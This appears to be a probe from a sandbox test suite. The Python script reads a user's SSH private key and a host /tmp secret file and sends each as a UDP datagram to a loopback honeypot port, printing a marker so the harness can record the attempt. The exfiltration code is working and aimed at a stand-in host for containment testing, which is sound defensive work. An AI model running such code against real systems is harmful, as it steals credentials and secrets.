# family: injection
# tries: send the user's SSH key and the host /tmp secret file to the host's loopback over UDP (the honeypot, argv 5), no connection needed
# source: https://attack.mitre.org/techniques/T1048/
# exfil: yes
# stopped-when: canary-unread
# attempted-when: marker
import os
import socket
import sys

if len(sys.argv) < 9:
    sys.exit("usage: TOKEN HOME HOSTTMP TCP UDP UNIX DECOY USERFILES")
print(f"ATTEMPTED {sys.argv[1]}", file=sys.stderr, flush=True)
home, hosttmp, port = sys.argv[2], sys.argv[3], int(sys.argv[5])
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
for path in (os.path.join(home, ".ssh", "id_ed25519"), hosttmp):
    try:
        with open(path, "rb") as f:
            data = f.read(1 << 16)
    except OSError as e:
        print(f"{path}: {e.strerror}")
        continue
    try:
        s.sendto(data[:60000], ("127.0.0.1", port))  # one datagram each
        print(f"sent {min(len(data), 60000)} bytes over UDP")
    except OSError as e:
        print(f"UDP: {e}")
